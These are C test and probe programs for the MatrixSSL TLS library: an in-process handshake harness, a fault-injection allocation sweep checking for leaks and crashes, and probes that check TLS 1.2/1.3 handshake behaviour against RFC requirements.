   App data / alert bytes are copied to pt (if not NULL). */
static int32 feed(ssl_t *ssl, const unsigned char *data, int len,
    blob_t *pt)
{
    unsigned char *buf, *ptbuf = NULL;
    uint32 ptlen = 0;
    int32 room, rc;

    if (pt)
    {
        pt->len = 0;
    }
    room = matrixSslGetReadbufOfSize(ssl, len, &buf);
    if (room < len)
    {
        return -1000;
    }
    memcpy(buf, data, len);
    rc = matrixSslReceivedData(ssl, len, &ptbuf, &ptlen);
    while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT)
    {
        int32 first = rc;
        if (pt && ptbuf && pt->len + (int) ptlen <= MAXBUF)
        {
            memcpy(pt->b + pt->len, ptbuf, ptlen);
            pt->len += ptlen;
        }
        rc = matrixSslProcessedData(ssl, &ptbuf, &ptlen);
        if (rc != MATRIXSSL_APP_DATA && rc != MATRIXSSL_RECEIVED_ALERT)
        {
            return first;
        }
    }
    return rc;
}

/* Run a handshake to completion between c and s. Returns 0 when both sides
   are done. */
static int handshake(ssl_t *c, ssl_t *s)
{
    blob_t *x = malloc(sizeof(blob_t));
    int i, rc = -1;
    int32 r;

    for (i = 0; i < 20; i++)
    {
        drain(c, x, NULL);
        if (x->len > 0)
        {
            r = feed(s, x->b, x->len, NULL);
            if (r < 0)
            {
                fprintf(stderr, "harness: server rc %d in handshake\n", r);
                goto out;
            }
        }
        drain(s, x, NULL);
        if (x->len > 0)
        {
            r = feed(c, x->b, x->len, NULL);
            if (r < 0)
            {
                fprintf(stderr, "harness: client rc %d in handshake\n", r);
                goto out;
            }
        }
        if (matrixSslHandshakeIsComplete(c) && matrixSslHandshakeIsComplete(s))
        {
            /* flush what is left (e.g. NewSessionTicket) */
            drain(s, x, NULL);
            if (x->len > 0)
            {
                feed(c, x->b, x->len, NULL);
            }
            drain(c, x, NULL);
            if (x->len > 0)
            {
                feed(s, x->b, x->len, NULL);
            }
            rc = 0;
            goto out;
        }
    }
out:
    free(x);
    return rc;
}

/* Encrypt a message as application data; the record(s) go to out. */
static int32 sendApp(ssl_t *ssl, const char *msg, blob_t *out)
{
    int32 rc;

    rc = matrixSslEncodeToOutdata(ssl, (unsigned char *) msg,
            (uint32) strlen(msg));
    if (rc < 0)
    {
        out->len = 0;
        return rc;
    }
    drain(ssl, out, NULL);
    return rc;
}

static void hexdump(const char *label, const unsigned char *p, int n)
{
    int i;

    printf("%s (%d):", label, n);
    for (i = 0; i < n && i < 32; i++)
    {
        printf(" %02x", p[i]);
    }
    printf("%s\n", n > 32 ? " ..." : "");
}

#endif
