/* Exploration tool / probe: exhaustive single-fault allocation sweep over a
   TLS connection pair. Every k runs in a forked child.

   usage: sweep <scenario> [first [last]]
     scenario 13  : TLS 1.3 full handshake, NewSessionTicket, app data, then a
                    resumed TLS 1.3 handshake
     scenario 12  : TLS 1.2 full handshake, app data, resumed handshake
     scenario 1202: TLS 1.2 with an ECDSA server certificate (ECDHE_ECDSA)
     scenario 130 : as 13 but the client offers an SNI extension
   Prints one line per k that violates the property. */
#include "harness.h"
#include <unistd.h>
#include <sys/wait.h>

static sslKeys_t *srvKeys, *cliKeys;
static int scenario;

enum
{
    RES_OK = 0, RES_LEAK = 10, RES_DFREE = 11, RES_CRASH = 12, RES_SKIPPED = 13,
    RES_NOFAULT = 14
};

static int oneConnection(sslSessionId_t *sid, int expectResumed, int *completed)
{
    peer_t cli, srv;
    sslSessOpts_t co, so;
    psProtocolVersion_t v13[1] = { v_tls_1_3 };
    psProtocolVersion_t v12[1] = { v_tls_1_2 };
    tlsExtension_t *ext = NULL;
    unsigned char *sni = NULL;
    int32 sniLen = 0, rc;

    (void) expectResumed;
    memset(&cli, 0, sizeof(cli));
    memset(&srv, 0, sizeof(srv));
    memset(&co, 0, sizeof(co));
    memset(&so, 0, sizeof(so));
    *completed = 0;

    if (scenario == 12 || scenario == 1202)
    {
        matrixSslSessOptsSetClientTlsVersions(&co, v12, 1);
        matrixSslSessOptsSetServerTlsVersions(&so, v12, 1);
    }
    else
    {
        matrixSslSessOptsSetClientTlsVersions(&co, v13, 1);
        matrixSslSessOptsSetServerTlsVersions(&so, v13, 1);
    }

    if (scenario == 130)
    {
        if (matrixSslNewHelloExtension(&ext, NULL) < 0)
        {
            return 0;
        }
        if (matrixSslCreateSNIext(NULL, (unsigned char *) "localhost", 9,
                &sni, &sniLen) < 0)
        {
            matrixSslDeleteHelloExtension(ext);
            return 0;
        }
        rc = matrixSslLoadHelloExtension(ext, sni, sniLen, EXT_SNI);
        free(sni);
        if (rc < 0)
        {
            matrixSslDeleteHelloExtension(ext);
            return 0;
        }
    }

    rc = matrixSslNewServerSession(&srv.ssl, srvKeys, NULL, &so);
    if (rc < 0)
    {
        srv.ssl = NULL;
        goto out;
    }
    rc = matrixSslNewClientSession(&cli.ssl, cliKeys, sid, NULL, 0, h_certCb,
        NULL, ext, NULL, &co);
    if (rc < 0)
    {
        cli.ssl = NULL;
        goto out;
    }
    h_run(&cli, &srv);
    if (cli.error == 0 && srv.error == 0 && cli.hsComplete && srv.hsComplete)
    {
        h_sendApp(&cli, "ping");
        h_run(&cli, &srv);
        h_sendApp(&srv, "pong");
        h_run(&cli, &srv);
        if (cli.error == 0 && srv.error == 0 &&
            srv.appLen == 4 && cli.appLen == 4)
        {
            *completed = 1;
        }
    }
out:
    if (cli.ssl)
    {
        matrixSslDeleteSession(cli.ssl);
    }
    if (srv.ssl)
    {
        matrixSslDeleteSession(srv.ssl);
    }
    if (ext)
    {
        matrixSslDeleteHelloExtension(ext);
    }
    return 0;
}

static int runOne(long k, long *nallocs, int verbose)
{
    sslSessionId_t *sid = NULL;
    long base = h_nlive;
    int c1 = 0, c2 = 0;

    h_arm(k);
    if (sigsetjmp(h_jmp, 1))
    {
        h_disarm();
        if (verbose)
        {
            printf("k=%ld: CRASH signal %d\n", k, (int) h_sig);
        }
        return RES_CRASH;
    }
    if (matrixSslNewSessionId(&sid, NULL) >= 0)
    {
        oneConnection(sid, 0, &c1);
        oneConnection(sid, 1, &c2);
        matrixSslDeleteSessionId(sid);
    }
    h_disarm();
    *nallocs = h_count;
    if (h_doubleFrees)
    {
        if (verbose)
        {
            printf("k=%ld: DOUBLE FREE x%ld\n", k, h_doubleFrees);
        }
        return RES_DFREE;
    }
    if (h_nlive != base)
    {
        if (verbose)
        {
            printf("k=%ld: LEAK of %ld block(s) (conn1 %s, conn2 %s)\n", k,
                h_nlive - base, c1 ? "ok" : "failed", c2 ? "ok" : "failed");
            if (getenv("SWEEP_DUMP"))
            {
                h_dumpLive(1);
            }
        }
        return RES_LEAK;
    }
    if (k > 0 && !h_faultHit)
    {
        return RES_NOFAULT;
    }
    if (k == 0 && !(c1 && c2))
    {
        printf("fault-free run did not complete (c1=%d c2=%d)\n", c1, c2);
        return RES_SKIPPED;
    }
    return RES_OK;
}

int main(int argc, char **argv)
{
    long k, first = 1, last = -1, n = 0;
    int st, nbad = 0;

    setvbuf(stdout, NULL, _IONBF, 0);
    scenario = argc > 1 ? atoi(argv[1]) : 13;
    if (argc > 2)
    {
        first = atol(argv[2]);
    }
    if (argc > 3)
    {
        last = atol(argv[3]);
    }
    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    if ((scenario == 1202 ? h_loadKeysEc(&srvKeys, &cliKeys) :
         h_loadKeys(&srvKeys, &cliKeys, 1)) < 0)
    {
        printf("key loading failed\n");
        return 2;
    }
    h_catchCrashes();
    if (getenv("SWEEP_DUMP"))
    {
        void *tmp[4];
        backtrace(tmp, 4); /* let it do its one-time initialisation now */
        h_wantBt = 1;
    }

    (void) runOne(0, &n, 0); /* warm-up: one-time global allocations */
    if (getenv("SWEEP_SITES"))
    {
        void *tmp[4];
        backtrace(tmp, 4);
        h_siteLog = fopen(getenv("SWEEP_SITES"), "w");
    }
    st = runOne(0, &n, 1);
    if (h_siteLog)
    {
        fclose(h_siteLog);
        h_siteLog = NULL;
    }
    printf("scenario %d: fault-free run: result %d, %ld allocations\n",
        scenario, st, n);
    if (st != RES_OK)
    {
        return 2;
    }
    if (last < 0)
    {
        last = n;
    }
    for (k = first; k <= last; k++)
    {
        pid_t pid = fork();

        if (pid == 0)
        {
            long dummy;
            _exit(runOne(k, &dummy, 1));
        }
        waitpid(pid, &st, 0);
        if (!WIFEXITED(st))
        {
            printf("k=%ld: child killed by signal %d\n", k, WTERMSIG(st));
            nbad++;
        }
        else if (WEXITSTATUS(st) != RES_OK && WEXITSTATUS(st) != RES_NOFAULT)
        {
            nbad++;
        }
    }
    printf("scenario %d: %d of %ld fault positions violate the property\n",
        scenario, nbad, last - first + 1);
    return nbad ? 1 : 0;
}
