/* Side observations on the UNMODIFIED code (see NOTES.md). Each probe prints
   CONFIRMED / not confirmed; the exit status is the number of confirmed ones. */
#include "harness.h"

static hPeer_t c, s;

static sslKeys_t *keysRsa(const char *chainFile)
{
    sslKeys_t *k = NULL;
    if (matrixSslNewKeys(&k, NULL) < 0) exit(3);
    if (matrixSslLoadKeys(k, chainFile ? chainFile : KEYDIR "/RSA/2048_RSA.pem",
            KEYDIR "/RSA/2048_RSA_KEY.pem", NULL, KEYDIR "/RSA/2048_RSA_CA.pem", NULL) < 0)
    { printf("key load failed (%s)\n", chainFile ? chainFile : "default"); exit(3); }
    return k;
}

static void reset(void)
{
    memset(&c, 0, sizeof(c)); memset(&s, 0, sizeof(s));
    c.name = "client"; s.name = "server";
    h_filter = NULL;
}

/* find extension 'type' in a ClientHello/ServerHello record; returns ptr to ext header or NULL */
static unsigned char *findExt(unsigned char *rec, unsigned type, size_t *extsOff)
{
    unsigned char *p = rec + 9;
    size_t hsLen = (rec[6] << 16) | (rec[7] << 8) | rec[8];
    unsigned char *end = rec + 9 + hsLen, *q;
    p += 2 + 32; p += 1 + p[0];
    if (rec[5] == 1) { p += 2 + ((p[0] << 8) | p[1]); p += 1 + p[0]; }
    else { p += 3; }
    if (extsOff) *extsOff = p - rec;
    q = p + 2;
    while (q + 4 <= end)
    {
        unsigned t = (q[0] << 8) | q[1]; size_t l = (q[2] << 8) | q[3];
        if (t == type) return q;
        q += 4 + l;
    }
    return NULL;
}

/* ---- 1: maxFragLen option of a client that offers TLS 1.3 and 1.2 ------ */
static int probe_mfl(void)
{
    sslSessOpts_t co, so;
    psProtocolVersion_t cv[2] = { v_tls_1_3, v_tls_1_2 }, sv[1] = { v_tls_1_2 };
    int rc, hasExt;

    reset();
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    matrixSslSessOptsSetClientTlsVersions(&co, cv, 2);
    matrixSslSessOptsSetServerTlsVersions(&so, sv, 1);
    co.maxFragLen = 4096;
    matrixSslNewServerSession(&s.ssl, keysRsa(NULL), NULL, &so);
    matrixSslNewClientSession(&c.ssl, keysRsa(NULL), NULL, NULL, 0, h_certCb, NULL, NULL, NULL, &co);
    rc = h_pump(&c, &s);
    hasExt = findExt(c.wire, 1, NULL) != NULL;
    printf("1. client offering TLS 1.3+1.2 with maxFragLen=4096 against a TLS 1.2 server:\n"
           "   max_fragment_length extension in ClientHello: %s; handshake %s\n",
           hasExt ? "yes" : "NO", (rc == 0 && c.done && s.done) ? "completes" : "fails");
    if (rc == 0 && c.done && s.done)
    {
        rc = h_echo_check(&s, &c, 20000);
        printf("   20000 bytes server->client: %s (server saw alert %d/%d)\n", rc ? "LOST" : "ok",
            s.alertRecvLevel, s.alertRecvDesc);
        if (!hasExt && rc != 0)
        {
            printf("   CONFIRMED: the limit is never negotiated but enforced on what the server sends "
                   "(record_overflow)\n");
            return 1;
        }
    }
    printf("   not confirmed\n");
    return 0;
}

/* ---- 2: HelloRetryRequest when extended master secret was disabled ----- */
static int probe_hrr_ems(void)
{
    sslSessOpts_t co, so;
    psProtocolVersion_t cv[2] = { v_tls_1_3, v_tls_1_2 }, sv[1] = { v_tls_1_3 };
    uint16_t cg[2] = { namedgroup_x25519, namedgroup_secp256r1 }, sg[1] = { namedgroup_secp256r1 };
    int rc, ems, ok[2];

    for (ems = 0; ems >= -1; ems--)
    {
        reset();
        memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
        matrixSslSessOptsSetClientTlsVersions(&co, cv, 2);
        matrixSslSessOptsSetServerTlsVersions(&so, sv, 1);
        matrixSslSessOptsSetKeyExGroups(&co, cg, 2, 1);
        matrixSslSessOptsSetKeyExGroups(&so, sg, 1, 1);
        co.extendedMasterSecret = ems;
        matrixSslNewServerSession(&s.ssl, keysRsa(NULL), NULL, &so);
        matrixSslNewClientSession(&c.ssl, keysRsa(NULL), NULL, NULL, 0, h_certCb, NULL, NULL, NULL, &co);
        rc = h_pump(&c, &s);
        ok[-ems] = (rc == 0 && c.done && s.done);
        printf("2. HelloRetryRequest (x25519 share, server wants P-256), client offers 1.3+1.2, "
               "extendedMasterSecret=%d: %s (server saw alert %d/%d)\n", ems,
               ok[-ems] ? "completes" : "FAILS", s.alertRecvLevel, s.alertRecvDesc);
    }
    if (ok[0] && !ok[1])
    {
        printf("   CONFIRMED: the second ClientHello cannot be encoded (internal_error) when the "
               "extension was left out of the first\n");
        return 1;
    }
    printf("   not confirmed\n");
    return 0;
}

/* ---- 3/4: handshake header split over two records; fragmented ClientHello */
static int g_cutDir, g_cutMsgType, g_cutAt, g_cutDone;
static size_t cutFilter(hPeer_t *from, hPeer_t *to, unsigned char *buf, size_t len, size_t cap)
{
    /* find the plaintext handshake record that starts with message g_cutMsgType in direction
       g_cutDir and split it g_cutAt bytes into the message */
    static unsigned char out[H_MAXCAP];
    size_t off = 0, outLen = 0;
    int dir = from->name[0] == 'c' ? 0 : 1;
    (void) to;
    if (dir != g_cutDir || g_cutDone) return len;
    while (off + 5 <= len)
    {
        size_t l = (buf[off + 3] << 8) | buf[off + 4];
        if (!g_cutDone && buf[off] == 22 && buf[off + 5] == g_cutMsgType && l > (size_t) g_cutAt)
        {
            memcpy(out + outLen, buf + off, 3); outLen += 3;
            out[outLen++] = 0; out[outLen++] = g_cutAt;
            memcpy(out + outLen, buf + off + 5, g_cutAt); outLen += g_cutAt;
            memcpy(out + outLen, buf + off, 3); outLen += 3;
            out[outLen++] = (l - g_cutAt) >> 8; out[outLen++] = (l - g_cutAt) & 0xff;
            memcpy(out + outLen, buf + off + 5 + g_cutAt, l - g_cutAt); outLen += l - g_cutAt;
            g_cutDone = 1;
        }
        else
        {
            memcpy(out + outLen, buf + off, 5 + l); outLen += 5 + l;
        }
        off += 5 + l;
    }
    if (outLen > cap) exit(3);
    memcpy(buf, out, outLen);
    return outLen;
}

static int tls12WithCut(int dir, int msgType, int at)
{
    sslSessOpts_t co, so;
    psProtocolVersion_t v[1] = { v_tls_1_2 };
    psCipher16_t suite = 0xc02f;
    int rc;

    reset();
    h_filter = cutFilter; g_cutDir = dir; g_cutMsgType = msgType; g_cutAt = at; g_cutDone = 0;
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    matrixSslSessOptsSetClientTlsVersions(&co, v, 1);
    matrixSslSessOptsSetServerTlsVersions(&so, v, 1);
    matrixSslNewServerSession(&s.ssl, keysRsa(NULL), NULL, &so);
    matrixSslNewClientSession(&c.ssl, keysRsa(NULL), NULL, &suite, 1, h_certCb, NULL, NULL, NULL, &co);
    rc = h_pump(&c, &s);
    h_filter = NULL;
    return (rc == 0 && c.done && s.done && g_cutDone);
}

static int probe_split(void)
{
    int okBody, okHdr, okCh, n = 0;

    okBody = tls12WithCut(1, 11, 100);  /* Certificate split inside its body */
    okHdr = tls12WithCut(1, 11, 2);     /* ... inside its 4 byte header */
    printf("3. TLS 1.2 server Certificate message sent in two records: split 100 bytes in: %s; "
           "split after 2 of the 4 header bytes: %s (server saw alert %d/%d)\n",
           okBody ? "completes" : "fails", okHdr ? "completes" : "FAILS",
           s.alertRecvLevel, s.alertRecvDesc);
    if (okBody && !okHdr)
    {
        printf("   CONFIRMED: a handshake header that straddles a record boundary is a decode_error "
               "(RFC 5246 6.2.1 allows any fragmentation)\n");
        n++;
    }
    else printf("   not confirmed\n");
    okCh = tls12WithCut(0, 1, 60);
    printf("4. TLS 1.2 ClientHello sent in two records (split 60 bytes in): %s (client saw alert %d/%d)\n",
           okCh ? "completes" : "FAILS", c.alertRecvLevel, c.alertRecvDesc);
    if (!okCh)
    {
        printf("   CONFIRMED: a fragmented ClientHello is refused\n");
        n++;
    }
    else printf("   not confirmed\n");
    return n;
}

/* ---- 5: empty client_shares (RFC 8446 4.2.8: asks the server for a HelloRetryRequest) --- */
static int probe_empty_keyshare(void)
{
    sslSessOpts_t co, so;
    psProtocolVersion_t v[1] = { v_tls_1_3 };
    unsigned char ch[4096], *ks, *ob;
    size_t chLen, extsOff, ksLen, cut, l;
    int32_t obLen;
    int rc;

    reset();
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    matrixSslSessOptsSetClientTlsVersions(&co, v, 1);
    matrixSslSessOptsSetServerTlsVersions(&so, v, 1);
    matrixSslNewServerSession(&s.ssl, keysRsa(NULL), NULL, &so);
    matrixSslNewClientSession(&c.ssl, keysRsa(NULL), NULL, NULL, 0, h_certCb, NULL, NULL, NULL, &co);
    obLen = matrixSslGetOutdata(c.ssl, &ob);
    memcpy(ch, ob, obLen); chLen = obLen;
    ks = findExt(ch, 51, &extsOff);
    if (!ks) { printf("5. no key_share found?!\n"); return 0; }
    ksLen = (ks[2] << 8) | ks[3];
    /* replace extension_data by an empty client_shares vector: 00 00 */
    cut = ksLen - 2;
    memmove(ks + 6, ks + 4 + ksLen, ch + chLen - (ks + 4 + ksLen));
    ks[2] = 0; ks[3] = 2; ks[4] = 0; ks[5] = 0;
    chLen -= cut;
    l = ((ch[extsOff] << 8) | ch[extsOff + 1]) - cut; ch[extsOff] = l >> 8; ch[extsOff + 1] = l & 0xff;
    l = ((ch[6] << 16) | (ch[7] << 8) | ch[8]) - cut; ch[6] = l >> 16; ch[7] = (l >> 8) & 0xff; ch[8] = l & 0xff;
    l = ((ch[3] << 8) | ch[4]) - cut; ch[3] = l >> 8; ch[4] = l & 0xff;
    rc = h_deliver(&s, ch, chLen);
    obLen = matrixSslGetOutdata(s.ssl, &ob);
    printf("5. TLS 1.3 ClientHello with an empty key_share.client_shares: server answers with ");
    if (obLen >= 6 && ob[0] == 22 && ob[5] == 2)
    {
        printf("a ServerHello/HelloRetryRequest\n   not confirmed\n");
        return 0;
    }
    if (obLen >= 7 && ob[0] == 21)
    {
        printf("ALERT %d/%d (deliver rc %d)\n", ob[5], ob[6], rc);
        printf("   CONFIRMED: RFC 8446 4.2.8 lets a client send no share to request group selection; "
               "the answer must be a HelloRetryRequest\n");
        return 1;
    }
    printf("nothing? (rc %d, %d bytes)\n   not confirmed\n", rc, obLen);
    return 0;
}

/* ---- 6: HelloRetryRequest that carries only a cookie -------------------- */
static int probe_cookie_only_hrr(void)
{
    static const unsigned char hrrRandom[32] = {
        0xCF,0x21,0xAD,0x74,0xE5,0x9A,0x61,0x11,0xBE,0x1D,0x8C,0x02,0x1E,0x65,0xB8,0x91,
        0xC2,0xA2,0x11,0x16,0x7A,0xBB,0x8C,0x5E,0x07,0x9E,0x09,0xE2,0xC8,0xA8,0x33,0x9C };
    sslSessOpts_t co;
    psProtocolVersion_t v[1] = { v_tls_1_3 };
    unsigned char hrr[256], *ob, *p, *ck;
    int32_t obLen;
    size_t n, sidLen;
    int rc, i;

    reset();
    memset(&co, 0, sizeof(co));
    matrixSslSessOptsSetClientTlsVersions(&co, v, 1);
    matrixSslNewClientSession(&c.ssl, keysRsa(NULL), NULL, NULL, 0, h_certCb, NULL, NULL, NULL, &co);
    obLen = matrixSslGetOutdata(c.ssl, &ob);
    sidLen = ob[9 + 2 + 32];
    p = hrr + 9;
    *p++ = 3; *p++ = 3; memcpy(p, hrrRandom, 32); p += 32;
    *p++ = sidLen; memcpy(p, ob + 9 + 2 + 32 + 1, sidLen); p += sidLen;
    *p++ = 0x13; *p++ = 0x01; *p++ = 0;
    *p++ = 0; *p++ = 6 + 4 + 2 + 40;            /* extensions length */
    *p++ = 0; *p++ = 43; *p++ = 0; *p++ = 2; *p++ = 3; *p++ = 4;
    *p++ = 0; *p++ = 44; *p++ = 0; *p++ = 42; *p++ = 0; *p++ = 40;
    for (i = 0; i < 40; i++) *p++ = 0xA0 + i;
    n = p - (hrr + 9);
    hrr[0] = 22; hrr[1] = 3; hrr[2] = 3; hrr[3] = (n + 4) >> 8; hrr[4] = (n + 4) & 0xff;
    hrr[5] = 2; hrr[6] = 0; hrr[7] = n >> 8; hrr[8] = n & 0xff;
    matrixSslSentData(c.ssl, obLen);
    rc = h_deliver(&c, hrr, n + 9);
    obLen = matrixSslGetOutdata(c.ssl, &ob);
    printf("6. HelloRetryRequest with supported_versions and a 40 byte cookie, no key_share "
           "(legal, RFC 8446 4.1.4/4.2.2): client answers with ");
    if (obLen >= 6 && ob[0] == 22 && ob[5] == 1)
    {
        ck = findExt(ob, 44, NULL);
        printf("a ClientHello, cookie %s\n   not confirmed\n",
            (ck && ((ck[2] << 8) | ck[3]) == 42 && ck[6] == 0xA0) ? "echoed" : "NOT echoed");
        return 0;
    }
    if (obLen >= 7 && ob[0] == 21)
    {
        printf("ALERT %d/%d (rc %d)\n   CONFIRMED: a stateless server's cookie-only "
               "HelloRetryRequest aborts the handshake\n", ob[5], ob[6], rc);
        return 1;
    }
    printf("nothing (rc %d)\n   not confirmed\n", rc);
    return 0;
}

/* ---- 7: external TLS 1.3 PSK whose length is not a hash length ---------- */
static int probe_psk16(void)
{
    sslSessOpts_t co, so;
    psProtocolVersion_t v[1] = { v_tls_1_3 };
    unsigned char key[48];
    const unsigned char id[] = "probe-psk";
    sslKeys_t *ck, *sk;
    int rc, lens[2] = { 32, 16 }, ok[2], i;

    memset(key, 0x5a, sizeof(key));
    for (i = 0; i < 2; i++)
    {
        reset();
        memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
        matrixSslSessOptsSetClientTlsVersions(&co, v, 1);
        matrixSslSessOptsSetServerTlsVersions(&so, v, 1);
        ck = keysRsa(NULL); sk = keysRsa(NULL);
        matrixSslLoadTls13Psk(ck, key, lens[i], id, sizeof(id) - 1, NULL);
        matrixSslLoadTls13Psk(sk, key, lens[i], id, sizeof(id) - 1, NULL);
        rc = matrixSslNewServerSession(&s.ssl, sk, NULL, &so);
        rc = matrixSslNewClientSession(&c.ssl, ck, NULL, NULL, 0, h_certCb, NULL, NULL, NULL, &co);
        if (rc < 0) { ok[i] = 0; printf("7. %d byte external PSK: client session cannot be created (%d)\n", lens[i], rc); continue; }
        rc = h_pump(&c, &s);
        ok[i] = (rc == 0 && c.done && s.done);
        printf("7. %d byte external PSK without associated hash: handshake %s, pre_shared_key offered: %s\n",
            lens[i], ok[i] ? "completes" : "FAILS", findExt(c.wire, 41, NULL) ? "yes" : "no");
    }
    if (ok[0] && !ok[1])
    {
        printf("   CONFIRMED: RFC 8446 4.2.11 - an external PSK with no hash defined uses SHA-256, "
               "whatever its length\n");
        return 1;
    }
    printf("   not confirmed\n");
    return 0;
}

int main(void)
{
    int n = 0;
    if (matrixSslOpen() < 0) return 99;
    n += probe_mfl();
    n += probe_hrr_ems();
    n += probe_split();
    n += probe_empty_keyshare();
    n += probe_cookie_only_hrr();
    n += probe_psk16();
    printf("%d side observation(s) confirmed\n", n);
    return n;
}
