/*
 * probe_ske_sigalg.c - side observation 2.
 *
 * C07: "... the signature algorithm in force was enabled by both endpoints
 * (build and per-session options) ...".
 *
 * TLS 1.2, TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256.  The SERVER's session
 * options enable exactly one signature algorithm, rsa_pkcs1_sha384
 * (matrixSslSessOptsSetSigAlgs); the client offers its default list.  The
 * ServerKeyExchange is read off the wire: which algorithm did the server
 * sign with?
 *
 * chooseSkeSigAlgTls12() (tlsSigVer.c) picks from ssl->peerSigAlg - every
 * algorithm the CLIENT listed - and not from ssl->hashSigAlg, the list
 * tlsParseSignatureAlgorithms() filtered against the server's own
 * ssl->supportedSigAlgs.
 *
 * exit 0: the handshake failed or the server signed with rsa_pkcs1_sha384.
 * exit 1: the handshake completed on a signature algorithm the server's
 *         options did not enable.
 */
#include "harness.h"

static int g_skeSigAlg = -1;

/* The server's first flight: ServerHello, Certificate, ServerKeyExchange,
   ServerHelloDone, all in the clear. */
static void sniff(pair_t *p, int dir, int idx, unsigned char *b, int len,
    void *arg)
{
    unsigned char *hs;
    int hsLen = 0, o = 0, i;

    (void) p; (void) arg;
    if (dir != 1 || idx != 0)
    {
        return;
    }
    hs = malloc(len);
    while (o + 5 <= len && b[o] == 22)
    {
        int rl = (b[o + 3] << 8) | b[o + 4];

        if (o + 5 + rl > len)
        {
            break;
        }
        memcpy(hs + hsLen, b + o + 5, rl);
        hsLen += rl;
        o += 5 + rl;
    }
    i = 0;
    while (i + 4 <= hsLen)
    {
        int t = hs[i];
        int l = (hs[i + 1] << 16) | (hs[i + 2] << 8) | hs[i + 3];

        if (t == SSL_HS_SERVER_KEY_EXCHANGE && i + 4 + l <= hsLen)
        {
            unsigned char *m = hs + i + 4;

            /* curve_type(1) named_curve(2) point<1..255> sigalg(2) ... */
            if (l > 4 && m[0] == 3 && 4 + m[3] + 2 <= l)
            {
                g_skeSigAlg = (m[4 + m[3]] << 8) | m[4 + m[3] + 1];
            }
        }
        i += 4 + l;
    }
    free(hs);
}

int main(void)
{
    sslKeys_t *sk, *ck;
    sslSessOpts_t so, co;
    psProtocolVersion_t v12[1] = { v_tls_1_2 };
    uint16_t svSigAlgs[1] = { sigalg_rsa_pkcs1_sha384 };
    psCipher16_t suite[1] = { TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256 };
    pair_t p;
    int ok, i, enabled = 0;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    sk = hServerKeys();
    ck = hClientKeys();
    memset(&p, 0, sizeof(p));
    memset(&so, 0, sizeof(so));
    memset(&co, 0, sizeof(co));

    matrixSslSessOptsSetServerTlsVersions(&so, v12, 1);
    matrixSslSessOptsSetClientTlsVersions(&co, v12, 1);
    if (matrixSslSessOptsSetSigAlgs(&so, svSigAlgs, 1) < 0)
    {
        printf("cannot restrict the server's signature algorithms\n");
        return 2;
    }
    if (matrixSslNewServerSession(&p.sv, sk, NULL, &so) < 0 ||
        matrixSslNewClientSession(&p.cl, ck, NULL, suite, 1, hCertCb, NULL,
            NULL, NULL, &co) != MATRIXSSL_REQUEST_SEND)
    {
        printf("cannot create the sessions\n");
        return 2;
    }
    printf("server's enabled signature algorithms:");
    for (i = 0; i < p.sv->supportedSigAlgsLen; i++)
    {
        printf(" 0x%04x", p.sv->supportedSigAlgs[i]);
    }
    printf("\nclient's offered signature algorithms:");
    for (i = 0; i < p.cl->supportedSigAlgsLen; i++)
    {
        printf(" 0x%04x", p.cl->supportedSigAlgs[i]);
    }
    printf("\n");

    ok = hRun(&p, sniff, NULL);
    printf("handshake %s, suite 0x%04x, ServerKeyExchange signed with "
        "0x%04x\n", ok ? "completed" : "failed",
        p.cl->cipher ? p.cl->cipher->ident : 0, g_skeSigAlg);
    for (i = 0; i < p.sv->supportedSigAlgsLen; i++)
    {
        if (p.sv->supportedSigAlgs[i] == g_skeSigAlg)
        {
            enabled = 1;
        }
    }
    if (ok && g_skeSigAlg >= 0 && !enabled)
    {
        printf("OBSERVATION: the handshake completed with a ServerKeyExchange "
            "signature algorithm (0x%04x) that the server's session options "
            "did not enable\n", g_skeSigAlg);
        hFree(&p);
        return 1;
    }
    hFree(&p);
    return 0;
}
