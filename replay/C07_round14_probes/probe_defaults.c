/*
 * probe_defaults.c - side observation 1.
 *
 * Which protocol versions does a session get when the application sets no
 * version at all in sslSessOpts_t?  The build enables TLS 1.1, 1.2 and 1.3
 * (USE_TLS_1_1_AND_ABOVE); getDefaultVersions() in tlsDefaults.c is meant to
 * add every compiled-in version, highest first.
 *
 * Prints the version sets and runs "TLS 1.2-only client against a server with
 * default options".  exit 0 if the default server has TLS 1.2 enabled and the
 * handshake completes, exit 1 otherwise.
 */
#include "harness.h"

static void show(const char *who, ssl_t *ssl)
{
    int i;

    printf("%s: supportedVersions mask 0x%06x, priority list:", who,
        (unsigned) ssl->supportedVersions);
    for (i = 0; i < ssl->supportedVersionsPriorityLen; i++)
    {
        printf(" %s", VER_TO_STR(ssl->supportedVersionsPriority[i]));
    }
    printf("\n");
}

int main(void)
{
    sslKeys_t *sk, *ck;
    sslSessOpts_t so, co;
    psProtocolVersion_t v12[1] = { v_tls_1_2 };
    pair_t p;
    int ok, bad = 0;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    sk = hServerKeys();
    ck = hClientKeys();
    memset(&p, 0, sizeof(p));
    memset(&so, 0, sizeof(so));
    memset(&co, 0, sizeof(co));

    printf("v_compiled_in = 0x%06x (TLS 1.1 %s, TLS 1.2 %s, TLS 1.3 %s)\n",
        (unsigned) v_compiled_in,
        (v_compiled_in & v_tls_1_1) ? "yes" : "no",
        (v_compiled_in & v_tls_1_2) ? "yes" : "no",
        (v_compiled_in & v_tls_1_3) ? "yes" : "no");

    /* a server with all-default options */
    if (matrixSslNewServerSession(&p.sv, sk, NULL, &so) < 0)
    {
        printf("cannot create the default server\n");
        return 2;
    }
    show("server, default options", p.sv);
    if (!(p.sv->supportedVersions & v_tls_1_2))
    {
        printf("OBSERVATION: TLS 1.2 is compiled in but NOT enabled in a "
            "session created with default options\n");
        bad = 1;
    }

    /* a client that enabled TLS 1.2 only */
    matrixSslSessOptsSetClientTlsVersions(&co, v12, 1);
    if (matrixSslNewClientSession(&p.cl, ck, NULL, NULL, 0, hCertCb, NULL,
            NULL, NULL, &co) != MATRIXSSL_REQUEST_SEND)
    {
        printf("cannot create the TLS 1.2 client\n");
        return 2;
    }
